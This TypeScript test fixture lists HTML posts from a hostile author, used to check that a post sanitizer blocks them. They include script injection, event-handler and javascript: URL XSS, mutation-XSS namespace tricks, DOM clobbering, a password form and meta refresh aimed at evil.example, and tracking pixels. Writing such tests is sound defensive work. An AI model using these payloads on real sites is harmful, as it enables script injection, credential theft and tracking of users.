/**
 * Posts by a hostile or careless author. Each tries to set `window.hostile`, to navigate, to load something, to shadow the site's own names
 * or to cover its layout. None may succeed.
 */
export const hostilePosts: Record<string, string> = {
  'a script element': '<p>words</p><script>window.hostile = 1</script>',
  'a script with odd spelling':
    '<p>words</p><ScRiPt/x>window.hostile = 1</sCrIpT ><script src=//evil.example/x.js></script>',
  'handlers, quoted, bare and after a slash':
    '<p>words</p><img src=x onerror="window.hostile=1"><img/src=x/onerror=window.hostile=1><svg/onload=window.hostile=1>',
  'a handler behind a broken attribute':
    '<p>words</p><img """><img title="a>b" src=x onerror=window.hostile=1><p title=\'">\' onclick=window.hostile=1>x</p>',
  'a handler on a player':
    '<p>words</p><video><source onerror=window.hostile=1></video><audio src=x onerror=window.hostile=1></audio>',
  'a javascript link':
    '<p>words <a href="javascript:window.hostile=1">a</a> <a href="jav&#x0A;ascript:window.hostile=1">b</a> <a href=" &#14; javascript:window.hostile=1">c</a></p>',
  'a link that carries a page':
    '<p>words <a href="data:text/html,<script>opener.hostile=1</script>">a</a> <a href="vbscript:x">b</a> <a href="blob:x">c</a></p>',
  frames:
    '<p>words</p><iframe srcdoc="<script>parent.hostile=1</script>"></iframe><iframe src="javascript:parent.hostile=1"></iframe><object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  'a style sheet':
    '<p>words</p><style>body{display:none}</style><style>@import "https://evil.example/x.css";</style>',
  'a style that covers the page':
    '<p>words</p><div style="position:fixed;inset:0;background:red;z-index:99999">over</div>',
  'a style in a picture': '<p>words</p><svg><style>*{display:none}</style><text>x</text></svg>',
  'a new base': '<p>words</p><base href="https://evil.example/"><base target="_top">',
  'a set of frames':
    '<frameset onload="window.hostile=1"><frame src="https://evil.example/"></frameset><p>words</p>',
  'a refresh':
    '<p>words</p><meta http-equiv="refresh" content="0;url=https://evil.example/"><meta http-equiv="content-security-policy" content="default-src \'none\'">',
  'things to load':
    '<p>words</p><link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/y"><img src="https://evil.example/pixel.gif" srcset="https://evil.example/pixel.gif 2x"><video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><table background="https://evil.example/t.png"><tr><td>x</td></tr></table>',
  'a set of sizes with a stranger in it':
    '<p>words</p><img src="/favicon.svg" srcset="/favicon.svg 1x, https://evil.example/pixel.gif 2x" alt="ours">',
  'a form':
    '<p>words</p><form action="https://evil.example/"><input name="password"><button formaction="javascript:window.hostile=1">Send</button></form>',
  'a form that hides its own methods':
    '<p>words</p><form><input name="remove"><input name="attributes"><input name="parentNode"><p id="querySelectorAll">x</p></form>',
  'names of the document':
    '<p>words</p><img name="cookie" src="/favicon.svg"><a id="location">x</a><a id="root">y</a><a id="main">z</a><form name="body"></form>',
  'a foreign namespace turned inside out':
    '<p>words</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hostile=1&gt;">',
  'an svg turned inside out':
    '<p>words</p><svg></p><style><a id="</style><img src=1 onerror=window.hostile=1>">',
  'noscript turned inside out':
    '<p>words</p><noscript><p title="</noscript><img src=x onerror=window.hostile=1>"></noscript>',
  'a text area turned inside out':
    '<p>words</p><textarea><p title="</textarea><img src=x onerror=window.hostile=1>">',
  'a comment turned inside out':
    '<p>words</p><!--><img src=x onerror=window.hostile=1>--><!-- --!><img src=x onerror=window.hostile=1>',
  'a template': '<p>words</p><template><script>window.hostile=1</script></template>',
  'a tag that never ends': '<p>words</p><img src="x" onerror="window.hostile=1',
  'elements that never close': '<p>words</p></div></main></div></body></html><div><div><table><tr><td>inside',
  'the site’s own class names':
    '<p>words</p><div class="MuiBackdrop-root MuiDialog-root css-1abc">over</div>',
  'a link into a window of somebody else':
    '<p>words <a href="https://evil.example/" target="_top">a</a> <a href="https://evil.example/" target="other">b</a> <a href="https://evil.example/" target="_blank" rel="opener">c</a> <a class="kg-embed-link" href="https://evil.example/" target="_top">d</a></p>',
  'a focus trap':
    '<p>words</p><p tabindex="1" autofocus accesskey="s" contenteditable="true" role="alert" aria-hidden="true">x</p>',
  'a word without end': `<p>words</p><p>${'w'.repeat(4000)}</p><pre>${'x'.repeat(4000)}</pre><table><tr><td>${'y'.repeat(4000)}</td></tr></table>`,
  'deep nesting': `<p>words</p>${'<div>'.repeat(600)}deep`,
  'a picture larger than the page':
    '<p>words</p><img src="/favicon.svg" width="99999" height="99999" alt="">',
};
